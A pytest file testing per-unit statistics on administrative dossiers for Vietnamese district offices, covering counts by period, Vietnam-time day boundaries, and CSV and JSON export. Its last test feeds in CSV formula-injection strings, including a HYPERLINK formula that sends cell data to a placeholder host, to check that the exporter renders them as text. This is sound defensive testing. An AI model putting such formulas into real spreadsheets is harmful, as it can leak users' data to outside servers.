"""The office's figures per unit and period, from dossiers with known dates: received,
resolved early / on time / late, overdue now, the shares, and the CSV and JSON forms.

Days are Vietnam days (UTC+7): 17:30 UTC is already 00:30 of the next day there.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from dataclasses import asdict
from datetime import UTC, date, datetime

import pytest
from sqlalchemy.orm import Session

from ingest.figures import Figures, UnitFigures, compute_figures
from storage.records import Database, Document, DocumentStatus, Dossier, DossierStatus, Unit

S, D = DossierStatus, DocumentStatus
MARCH = (date(2026, 3, 1), date(2026, 3, 31))
TODAY = date(2026, 4, 10)


def _utc(day: str, time: str = "02:00") -> datetime:
    return datetime.fromisoformat(f"{day}T{time}+00:00").astimezone(UTC)


def _unit(session: Session, code: str, name: str) -> int:
    unit = Unit(code=code, name=name)
    session.add(unit)
    session.flush()
    return unit.id


def _dossier(session: Session, unit_id: int, *, received: datetime, due: str,
             status: DossierStatus, resolved: datetime | None = None,
             documents: Sequence[DocumentStatus] = ()) -> None:
    dossier = Dossier(unit_id=unit_id, procedure_code="1.004227", applicant_name="Trần Văn An",
                      processing_days=10, received_at=received, due_date=date.fromisoformat(due),
                      status=status, resolved_at=resolved)
    session.add(dossier)
    session.flush()
    for status_of_document in documents:
        session.add(Document(unit_id=unit_id, dossier_id=dossier.id, filename="ho-so.pdf",
                             media_type="application/pdf", status=status_of_document))
    session.flush()


@pytest.fixture
def units(db: Database) -> dict[str, int]:
    """Three units and their dossiers; the figures of DA and SS are worked out by hand."""
    with db.session() as session:
        da = _unit(session, "DA", "UBND huyện Đông Anh")
        ss = _unit(session, "SS", "UBND huyện Sóc Sơn")
        gl = _unit(session, "GL", "UBND huyện Gia Lâm")
        # DA -- received in March: a1 a2 a3 a4 a7; resolved in March: a1 (early), a2 and a5
        # (on time), a3 (late); overdue now: a4, a9; digitised: a1, a2; signed: a1, a5.
        _dossier(session, da, received=_utc("2026-03-02"), due="2026-03-16", status=S.returned,
                 resolved=_utc("2026-03-10", "03:00"), documents=[D.digitised, D.signed])  # a1
        _dossier(session, da, received=_utc("2026-03-03"), due="2026-03-17",
                 status=S.result_signed, resolved=_utc("2026-03-17", "16:30"),
                 documents=[D.digitised])  # a2: 23:30 in Vietnam, the due day
        _dossier(session, da, received=_utc("2026-03-04"), due="2026-03-16", status=S.returned,
                 resolved=_utc("2026-03-16", "17:30"))  # a3: already the 17th in Vietnam
        _dossier(session, da, received=_utc("2026-02-28", "17:30"), due="2026-03-20",
                 status=S.in_progress, documents=[D.digitised, D.failed])  # a4: March 1st
        _dossier(session, da, received=_utc("2026-02-10"), due="2026-03-05",
                 status=S.returned, resolved=_utc("2026-03-05"), documents=[D.signed])  # a5
        _dossier(session, da, received=_utc("2026-03-31", "17:30"), due="2026-04-15",
                 status=S.received)  # a6: April 1st in Vietnam
        _dossier(session, da, received=_utc("2026-03-20"), due="2026-04-10",
                 status=S.digitising, documents=[D.processing])  # a7: due today, not overdue
        _dossier(session, da, received=_utc("2026-01-05"), due="2026-01-20",
                 status=S.returned)  # a8: closed without a resolution time: not overdue
        _dossier(session, da, received=_utc("2026-01-05"), due="2026-01-20",
                 status=S.in_progress)  # a9: overdue now, whatever the period
        # SS -- received in March: b1 b2 b3, all digitised; resolved in March: b1 (early);
        # b2 resolved in April (late); overdue now: b3.
        _dossier(session, ss, received=_utc("2026-03-10"), due="2026-03-12",
                 status=S.result_signed, resolved=_utc("2026-03-11"),
                 documents=[D.digitised])  # b1
        _dossier(session, ss, received=_utc("2026-03-11"), due="2026-03-13", status=S.returned,
                 resolved=_utc("2026-04-02"), documents=[D.digitised, D.digitised])  # b2
        _dossier(session, ss, received=_utc("2026-03-12"), due="2026-03-25",
                 status=S.in_progress, documents=[D.digitised, D.signed, D.signed])  # b3
        # GL: not asked for; its dossier must count nowhere.
        _dossier(session, gl, received=_utc("2026-03-09"), due="2026-03-10", status=S.returned,
                 resolved=_utc("2026-03-09"), documents=[D.signed])
        # a document not filed in any dossier changes nothing
        session.add(Document(unit_id=da, dossier_id=None, filename="le.pdf",
                             media_type="application/pdf", status=D.digitised))
        return {"DA": da, "SS": ss, "GL": gl}


def _figures(db: Database, unit_ids: list[int], date_from: date | None,
             date_to: date | None) -> Figures:
    with db.session() as session:
        return compute_figures(session, unit_ids, date_from=date_from, date_to=date_to,
                               today=TODAY)


def _counts(row: UnitFigures) -> tuple[object, ...]:
    values = asdict(row)
    return tuple(values[name] for name in (
        "unit_code", "received", "resolved", "resolved_early", "resolved_on_time",
        "resolved_late", "overdue_now", "digitised", "signed_digitally", "share_digitised",
        "share_signed_digitally"))


def test_march_per_unit_and_in_total(db: Database, units: dict[str, int]) -> None:
    figures = _figures(db, [units["SS"], units["DA"]], *MARCH)
    assert [(row.unit_code, row.unit_name) for row in figures.units] == [
        ("DA", "UBND huyện Đông Anh"), ("SS", "UBND huyện Sóc Sơn")]
    #                                   rec res early on-time late overdue dig signed shares
    assert _counts(figures.units[0]) == ("DA", 5, 4, 1, 2, 1, 2, 2, 2, 0.4, 0.5)
    assert _counts(figures.units[1]) == ("SS", 3, 1, 1, 0, 0, 1, 3, 0, 1.0, 0.0)
    assert _counts(figures.total) == ("*", 8, 5, 2, 2, 1, 3, 5, 2, 0.625, 0.4)
    assert figures.total.unit_name == "Tổng cộng"


def test_april_takes_the_dossiers_of_vietnams_april(db: Database,
                                                   units: dict[str, int]) -> None:
    figures = _figures(db, [units["DA"], units["SS"]], date(2026, 4, 1), None)
    assert _counts(figures.units[0]) == ("DA", 1, 0, 0, 0, 0, 2, 0, 0, 0.0, 0.0)
    assert _counts(figures.units[1]) == ("SS", 0, 1, 0, 0, 1, 1, 0, 0, 0.0, 0.0)
    assert _counts(figures.total) == ("*", 1, 1, 0, 0, 1, 3, 0, 0, 0.0, 0.0)


def test_without_a_period_everything_counts(db: Database, units: dict[str, int]) -> None:
    figures = _figures(db, [units["DA"], units["SS"]], None, None)
    assert _counts(figures.units[0]) == ("DA", 9, 4, 1, 2, 1, 2, 3, 2, 0.3333, 0.5)
    assert _counts(figures.units[1]) == ("SS", 3, 2, 1, 0, 1, 1, 3, 0, 1.0, 0.0)
    assert _counts(figures.total) == ("*", 12, 6, 2, 2, 2, 3, 6, 2, 0.5, 0.3333)


def test_one_unit_alone(db: Database, units: dict[str, int]) -> None:
    figures = _figures(db, [units["GL"]], *MARCH)
    assert [_counts(row) for row in figures.units] == [
        ("GL", 1, 1, 1, 0, 0, 0, 1, 1, 1.0, 1.0)]
    assert _counts(figures.total) == ("*", 1, 1, 1, 0, 0, 0, 1, 1, 1.0, 1.0)


def test_no_units_give_zeros_not_a_division_by_zero(db: Database,
                                                   units: dict[str, int]) -> None:
    figures = _figures(db, [], *MARCH)
    assert figures.units == []
    assert _counts(figures.total) == ("*", 0, 0, 0, 0, 0, 0, 0, 0, 0.0, 0.0)


def test_csv_has_a_header_a_row_per_unit_and_the_total(db: Database,
                                                       units: dict[str, int]) -> None:
    assert _figures(db, [units["DA"], units["SS"]], *MARCH).to_csv() == (
        "unit_code,unit_name,received,resolved,resolved_early,resolved_on_time,resolved_late,"
        "overdue_now,digitised,signed_digitally,share_digitised,share_signed_digitally\n"
        "DA,UBND huyện Đông Anh,5,4,1,2,1,2,2,2,0.4,0.5\n"
        "SS,UBND huyện Sóc Sơn,3,1,1,0,0,1,3,0,1.0,0.0\n"
        "*,Tổng cộng,8,5,2,2,1,3,5,2,0.625,0.4\n")


def test_json_names_the_period_and_today(db: Database, units: dict[str, int]) -> None:
    answer = _figures(db, [units["SS"]], *MARCH).to_json()
    assert (answer["from"], answer["to"], answer["today"]) == (
        "2026-03-01", "2026-03-31", "2026-04-10")
    counts = {"received": 3, "resolved": 1, "resolved_early": 1, "resolved_on_time": 0,
              "resolved_late": 0, "overdue_now": 1, "digitised": 3, "signed_digitally": 0,
              "share_digitised": 1.0, "share_signed_digitally": 0.0}
    assert answer["total"] == {"unit_code": "*", "unit_name": "Tổng cộng", **counts}
    assert answer["units"] == [{"unit_code": "SS", "unit_name": "UBND huyện Sóc Sơn", **counts}]
    assert _figures(db, [units["SS"]], None, None).to_json()["from"] is None


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2",
                                  "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_would_be_formulas_are_text(db: Database, name: str) -> None:
    with db.session() as session:
        unit_id = _unit(session, name[:1] + "X", name)
    text = _figures(db, [unit_id], *MARCH).to_csv()
    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row[0] == "'" + " ".join((name[:1] + "X").splitlines())  # a line break: a space
    assert row[1] == "'" + " ".join(name.splitlines())
    assert row[2:4] == ["0", "0"]  # numbers stay numbers
